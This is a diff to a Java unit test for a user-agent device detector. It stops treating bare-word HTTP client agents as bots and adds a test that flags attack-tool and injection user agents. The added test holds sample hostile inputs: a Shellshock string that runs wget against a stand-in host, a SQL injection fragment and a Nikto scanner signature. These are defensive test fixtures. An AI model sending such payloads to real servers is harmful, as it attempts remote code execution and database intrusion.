@@ -206,8 +206,18 @@ class DeviceDetectorTest {
     }
 
     @Test
-    void drops_a_bare_word_user_agent_such_as_node_fetch_sends_because_yauaa_calls_it_hacker() {
-        assertThat(detector.detect("node").bot()).isTrue();
+    void keeps_bare_word_agents_of_app_and_server_http_stacks_that_yauaa_calls_hacker() {
+        for (String agent : List.of("node", "undici", "Ktor client", "MyApp")) {
+            assertThat(detector.detect(agent)).as(agent)
+                    .isEqualTo(new DeviceFacts(null, null, null, null, null, null, false));
+        }
+    }
+
+    @Test
+    void drops_attack_tools_and_injection_attempts() {
+        assertThat(detector.detect("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)").bot()).isTrue();
+        assertThat(detector.detect("() { :; }; /bin/bash -c \"wget http://example.com/x\"").bot()).isTrue();
+        assertThat(detector.detect("Mozilla/5.0 (Windows NT 10.0) ' OR 1=1 --").bot()).isTrue();
     }
 
     @Test
